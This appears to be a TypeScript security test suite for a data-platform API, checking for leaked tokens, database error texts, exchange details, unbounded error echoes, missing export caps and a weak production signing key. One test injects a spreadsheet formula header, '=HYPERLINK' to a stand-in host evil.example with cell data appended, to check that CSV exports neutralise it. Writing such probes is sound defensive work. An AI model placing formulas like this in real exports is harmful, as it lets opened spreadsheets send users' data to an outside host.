import { spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import {
  admin,
  api,
  asset,
  BASE,
  completedJob,
  connection,
  DATA_DIR,
  filesContaining,
  partner,
  record,
  type Reply,
  sales,
  shop,
  short,
  sleep,
  trailerOf,
} from './world.ts';

// What replies, logs and exports give away: token-shaped secrets, formula headers, database error texts, the
// exchange header, echoed ids, export caps; empty POST bodies; a weak signing key in production.

/** Token-shaped secrets in URLs, logs, usage and client reports. */
export async function tokenShapedSecrets(): Promise<void> {
  const fake = `dlp_${randomBytes(40).toString('base64url').replace(/[-_]/g, 'x').slice(0, 46)}`;
  const notFound = await api(partner, 'GET', `/data/v1/${fake}`);
  const client = await api(partner, 'POST', '/api/ApplicationLog/ClientErrors', {
    message: `boom ${fake}`,
    path: `/x/${fake}`,
  });
  const badToken = await api(fake, 'GET', '/api/Account/GetCurrentUser');
  const inUrl = await api(null, 'GET', `/data/v1/x?access_token=${fake}`);
  await sleep(1500);
  const logs = await api(admin, 'GET', '/api/ApplicationLog/GetApplicationLogs?pageSize=50');
  const stored = DATA_DIR ? filesContaining(DATA_DIR, fake) : [];
  record(
    'Token-shaped secret in URLs, logs, usage and client reports',
    'GET /data/v1/<dlp_ secret>; a client error report carrying one; a bad token; a token in the query string',
    !notFound.text.includes(fake) && !logs.text.includes(fake) && stored.length === 0 && client.status === 202,
    `404 "${notFound.json?.title}"; report ${client.status}; bad token ${short(badToken)}; token in URL ${inUrl.status}; ` +
      `secret in the log API: ${logs.text.includes(fake)}; files under DATA_DIR holding it: ${DATA_DIR ? stored.length : 'not checked'}`,
  );
}

/** COPY header, Reader error texts, exchange header, echo caps, truncation. */
export async function replyContents(): Promise<void> {
  const readOnly = await connection({
    kind: 'postgres',
    host: '127.0.0.1',
    port: 5432,
    database: 'postgres',
    username: 'dl_attack_ro',
    password: 'attack-ro',
  });
  const csvUid = await asset(
    readOnly.json.id,
    'select 1 as "=HYPERLINK(""http://evil.example/""&A1)", 2 as "@SUM(1+1)"',
  );
  const csv = await api(partner, 'GET', `/data/v1/${csvUid}?format=csv`);
  const header = csv.text.split('\n')[0] ?? '';
  record(
    'Formula in a PostgreSQL COPY header',
    'Reader downloads CSV of select 1 as "=HYPERLINK(…)", 2 as "@SUM(1+1)"',
    csv.status === 200 && !/(^|,)"?[=@+-]/.test(header),
    `${csv.status} header: ${header.slice(0, 100)}`,
  );

  const castUid = await asset(readOnly.json.id, 'select cast(:v as integer) as n', [{ name: 'v', type: 'string' }]);
  const asReader = await api(partner, 'GET', `/data/v1/${castUid}?v=secret-value-4711`);
  const asEditor = await api(admin, 'POST', '/api/SqlDataSource/Preview', {
    collectionUid: sales,
    connectionId: readOnly.json.id,
    name: 'p',
    sql: "select cast('secret-value-4711' as integer) as n",
  });
  record(
    'Database error text for Readers',
    'Reader calls select cast(:v as integer) with v=secret-value-4711; Editor previews the same',
    !asReader.text.includes('secret-value') && Boolean(asReader.json?.requestId),
    `Reader ${short(asReader)} (request id given); Editor preview ${short(asEditor)}`,
  );

  const webApi = (
    (await api(admin, 'GET', '/api/DataSource/GetAll?pageSize=100')).json.items as { uid: string; kind: string }[]
  ).find((a) => a.kind === 'webapi')!.uid;
  const exchange = { 'x-datalab-exchange': '1' };
  const exchangeReader = await api(partner, 'GET', `/data/v1/${webApi}?region=1&country=FR`, undefined, exchange);
  const exchangeOwner = await api(admin, 'GET', `/data/v1/${webApi}?region=1&country=ES`, undefined, exchange);
  const carries = (reply: Reply) => Array.isArray(reply.json?.exchanges) || reply.text.includes('/demo-api/');
  record(
    'X-DataLab-Exchange: 1 as a Reader',
    'partner (Reader) and admin (Owner) call the Web API asset with X-DataLab-Exchange: 1',
    !carries(exchangeReader) && !exchangeReader.text.includes('127.0.0.1'),
    `Reader ${exchangeReader.status}, exchange shown: ${carries(exchangeReader)}; Owner ${exchangeOwner.status}, shown: ${carries(exchangeOwner)}`,
  );

  const long = `A${'b'.repeat(1500)}`;
  const echo = await api(partner, 'GET', `/api/DataSource/GetByUid/${long}`);
  const echoData = await api(partner, 'GET', `/data/v1/${long}`);
  record(
    'Error bodies echo the requested id',
    'GET /api/DataSource/GetByUid/<1501 characters> and /data/v1/<same>',
    echo.text.length < 400 && echoData.text.length < 400,
    `${echo.status} body ${echo.text.length} chars ("${echo.json?.title?.slice(0, 60)}…"); /data/v1 ${echoData.status} ${echoData.text.length} chars`,
  );

  const rows = await asset(shop, 'select id from orders');
  const cut = await api(partner, 'GET', `/data/v1/${rows}?format=csv`);
  const ndjson = await api(partner, 'GET', `/data/v1/${rows}?format=ndjson`);
  const trailer = await trailerOf(`/data/v1/${rows}?format=csv`, partner);
  const job = await completedJob(partner, rows);
  record(
    'Exports cut at MAX_EXPORT_ROWS',
    'MAX_EXPORT_ROWS=50; Reader exports 2000 orders as CSV and NDJSON (TE: trailers) and as a download job',
    /50/.test(cut.text.trim().split('\n').at(-1) ?? '') && job.truncated === true && trailer !== undefined,
    `CSV last line "${cut.text.trim().split('\n').at(-1)?.slice(0, 80)}"; NDJSON last line "${ndjson.text.trim().split('\n').at(-1)?.slice(0, 80)}"; trailer Data-Lab-Truncated: ${trailer}; job truncated: ${job.truncated}`,
  );
}

/** Empty POST bodies; a weak signing key in production. */
export async function startAndBodies(): Promise<void> {
  const purge = await fetch(`${BASE}/api/Caching/PurgeCache`, {
    method: 'POST',
    headers: { authorization: `Bearer ${admin}` },
  });
  const purgeJson = await fetch(`${BASE}/api/Caching/PurgeCache`, {
    method: 'POST',
    headers: { authorization: `Bearer ${admin}`, 'content-type': 'application/json' },
  });
  record(
    'POST with an empty body',
    'POST /api/Caching/PurgeCache with no body, and with Content-Type: application/json and no body',
    purge.status < 300 && purgeJson.status < 300,
    `${purge.status} and ${purgeJson.status}`,
  );
  const sequence = Buffer.from(Array.from({ length: 32 }, (_, i) => i)).toString('base64');
  const started = spawnSync(process.execPath, ['apps/server/dist/server.js'], {
    encoding: 'utf8',
    timeout: 20_000,
    env: {
      ...process.env,
      NODE_ENV: 'production',
      PORT: '0',
      SIGNING_KEY: sequence,
      ENCRYPTION_KEY: randomBytes(32).toString('base64'),
    },
  });
  const said = `${started.stdout}${started.stderr}`.split('\n').find((line) => /SIGNING_KEY/.test(line)) ?? '';
  record(
    'Weak signing key in production',
    'NODE_ENV=production with SIGNING_KEY = the bytes 0x00–0x1f',
    started.status !== 0 && said !== '',
    `exit ${started.status}: ${said.slice(0, 160)}`,
  );
}
